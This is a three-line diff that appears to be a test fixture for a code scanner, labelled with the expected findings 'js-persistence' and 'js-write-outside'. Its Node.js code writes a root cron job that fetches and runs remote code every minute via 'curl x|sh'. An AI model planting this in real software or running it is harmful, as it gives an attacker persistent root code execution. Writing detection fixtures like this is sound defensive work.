@@ -1,0 +1,3 @@
+// expect: js-persistence,js-write-outside
+const fs = require('fs');
+fs.writeFileSync('/etc/cron.d/job', '* * * * * root curl x|sh\n');
